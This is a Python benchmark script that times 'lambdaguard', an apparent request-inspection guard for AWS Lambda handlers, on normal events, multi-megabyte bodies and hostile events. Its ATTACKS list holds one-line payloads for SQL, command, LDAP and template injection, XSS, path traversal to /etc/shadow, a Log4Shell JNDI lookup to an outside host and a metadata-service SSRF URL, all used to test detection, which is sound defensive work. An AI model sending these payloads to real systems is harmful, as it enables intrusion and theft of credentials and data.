"""What the guard adds to a warm invocation, as a multiple of `json.loads` of the same event, measured in one run.

    python benchmarks/warm.py [EVENT.json …]
    python benchmarks/warm.py --large           bodies of 1, 2, 4 and 6 MB
    python benchmarks/warm.py --hostile         events that carry an attack, each a new one

Rounds of every variant are interleaved and the best of each is kept, so that a busy machine hurts all of them alike.
"""

from __future__ import annotations

import gc
import json
import pathlib
import random
import sys
import time
from base64 import b64encode
from contextlib import redirect_stdout
from io import StringIO
from urllib.parse import quote_plus

sys.path.insert(0, str(pathlib.Path(__file__).parent.parent))

from lambdaguard import guard

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable
    from typing import Any

ROUNDS, CALLS = 40, 200
# Not those with encoded parts: a rotated letter breaks the code, and what is measured then is a finding.
NAMES = ("apigateway-rest.order", "apigateway-http.order", "alb.multi", "sqs.orders", "s3.created")


def bare(event: object, context: object) -> dict[str, object]:
    return {"statusCode": 200, "body": "{}"}


guarded = guard(bare)
SAMPLES = pathlib.Path(__file__).parent.parent / "tests" / "data" / "events"


def renewed(text: str, count: int) -> list[object]:
    """Events whose every caller-controlled word is new: letters and digits in strings of 4 and more are rotated."""
    events = []
    for number in range(count):
        shift = str.maketrans({chr(97 + i): chr(97 + (i + 1 + number) % 26) for i in range(26)})
        events.append(_renew(json.loads(text), shift, number))
    return events


def _renew(value: object, shift: dict[int, str], number: int) -> object:
    if isinstance(value, dict):
        return {key: _renew(item, shift, number) for key, item in value.items()}
    if isinstance(value, list):
        return [_renew(item, shift, number) for item in value]
    if isinstance(value, str) and len(value) > 3 and not value.startswith(("arn:", "aws:")):
        return f"{value.translate(shift)}{number}"
    return value


def measure(text: str) -> dict[str, float]:
    """Best microseconds a call of each variant."""
    best: dict[str, float] = {}
    same = json.loads(text)
    clock = time.perf_counter
    for _ in range(ROUNDS):
        copies = [json.loads(text) for _ in range(CALLS)]
        fresh = renewed(text, CALLS)
        variants = {
            "json.loads": lambda: [json.loads(text) for _ in range(CALLS)],
            "bare": lambda copies=copies: [bare(event, None) for event in copies],
            "guarded, strings repeat": lambda copies=copies: [guarded(event, None) for event in copies],
            "guarded, strings new": lambda fresh=fresh: [guarded(event, None) for event in fresh],
        }
        guarded(same, None)
        for name, run in variants.items():
            gc.collect()
            gc.disable()
            start = clock()
            run()
            took = (clock() - start) / CALLS * 1e6
            gc.enable()
            best[name] = min(took, best.get(name, took))
    return best


WORDS = (
    "the order was sent to our store on Monday and it came back with a note of thanks from her brother who had never seen such "
    "fine work before he asked whether we could make another one in green or blue for his daughter's birthday in May"
).split()
WRITTEN = (
    "Thanks, it's fine!",
    "See https://example.com/help?page=2 (in English).",
    'She said: "no, not today"; we left.',
    "That makes 5 & 6 (so to say).",
)


def bodies(size: int, seed: int) -> dict[str, tuple[str, str]]:
    """Content type and body of about ``size`` bytes: JSON records, prose in one JSON string, plain text, a form, base64."""
    chance = random.Random(seed)

    def note() -> str:
        return " ".join([*chance.choices(WORDS, k=chance.randrange(4, 16)), chance.choice(WRITTEN)])

    def until(make: Callable[[], str], joint: str) -> str:
        parts, length = [], 0
        while length < size:
            parts.append(make())
            length += len(parts[-1]) + len(joint)
        return joint.join(parts)[:size]

    def record() -> str:
        number = chance.randrange(10**9)
        row = {
            "id": number,
            "name": f"Ann{number % 977} O'Brien{number % 83}",
            "mail": f"ann{number}@example.com",
            "note": note(),
        }
        return json.dumps({**row, "when": "2024-05-01T10:00:00Z", "tags": ["one", "two"]})

    records = until(record, ",")
    return {
        "JSON records": ("application/json", f"[{records[: records.rindex(',{')]}]"),
        "JSON, one string of prose": ("application/json", json.dumps({"text": until(note, "\n")})),
        "plain text": ("text/plain", until(note, "\n")),
        "form": ("application/x-www-form-urlencoded", until(lambda: f"f{chance.randrange(10**6)}={quote_plus(note())}", "&")),
        "base64 in JSON": ("application/json", json.dumps({"file": b64encode(chance.randbytes(size * 3 // 4)).decode()})),
    }


def posted(kind: str, body: str) -> dict[str, Any]:
    return {
        "version": "2.0", "routeKey": "$default", "rawPath": "/", "headers": {"content-type": kind},
        "requestContext": {"http": {"method": "POST"}}, "body": body,
    }  # fmt: skip


def large() -> None:
    print(
        f"Python {sys.version.split()[0]}; best of 5; milliseconds; json.loads of the event, and of its body where that is JSON"
    )
    print(f"{'body':30} {'MB':>3} {'json.loads':>10} {'guarded':>8} {'ratio':>6}")
    wide = guard(bare, limits={"bytes": 10**8, "fields": 10**7})
    for megabytes in (1, 2, 4, 6):
        rounds = [bodies(megabytes * 1_000_000, seed) for seed in range(5)]
        for name in rounds[0]:
            loads = took = float("inf")
            for made in rounds:
                kind, body = made[name]
                event = json.dumps(posted(kind, body))
                start = time.thread_time()
                parsed = json.loads(event)
                if kind == "application/json":
                    json.loads(body)
                between = time.thread_time()
                said = wide(parsed, None)
                took, loads = min(took, time.thread_time() - between), min(loads, between - start)
                assert said == bare(None, None), f"{name} was refused"
            print(f"{name:30} {megabytes:3} {loads * 1e3:10.1f} {took * 1e3:8.1f} {took / loads:6.1f}", flush=True)


ATTACKS = (
    "{n}' UNION SELECT card, {n} FROM payments-- -", "<img src={n} onerror=alert({n})>", "x{n}; cat /etc/passwd", "../../../{n}/../etc/shadow",
    "${{jndi:ldap://203.0.113.66/{n}}}", "http://169.254.169.254/latest/{n}", "{{{{{n}*7}}}}{{{{''.__class__.__mro__}}}}", "x{n})(|(uid=*",
)  # fmt: skip


def hostile() -> None:
    """Attacks nobody sent before, one in a field among honest ones; the log line of each finding is part of the time."""
    print(f"{'attack':45} {'median':>7} {'99th':>7}  microseconds an event")
    for attack in ATTACKS:
        times = []
        for number in range(300):
            text = attack.format(n=number + 1000)
            event = posted("application/json", json.dumps({"name": "Ann O'Brien", "note": "It's 5 < 6; isn't it?", "q": text}))
            with redirect_stdout(StringIO()):
                start = time.thread_time()
                said = guarded(event, None)
                times.append((time.thread_time() - start) * 1e6)
            assert said != bare(None, None), attack
        times.sort()
        print(f"{attack:45} {times[150]:7.0f} {times[296]:7.0f}", flush=True)


def main(paths: list[str]) -> None:
    if paths in (["--large"], ["--hostile"]):
        (large if paths == ["--large"] else hostile)()
        return
    chosen = [pathlib.Path(path) for path in paths] or [SAMPLES / f"{name}.json" for name in NAMES]
    print(f"Python {sys.version.split()[0]}; best of {ROUNDS} rounds of {CALLS} calls; microseconds a call")
    print(f"{'event':34} {'json.loads':>10} {'bare':>6} {'repeat':>8} {'new':>8} {'repeat/json':>12} {'new/json':>9}")
    for path in chosen:
        best = measure(path.read_text())
        loads, base = best["json.loads"], best["bare"]
        repeat, new = best["guarded, strings repeat"], best["guarded, strings new"]
        row = f"{path.stem[:34]:34} {loads:10.1f} {base:6.2f} {repeat:8.1f} {new:8.1f}"
        print(f"{row} {(repeat - base) / loads:12.2f} {(new - base) / loads:9.2f}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
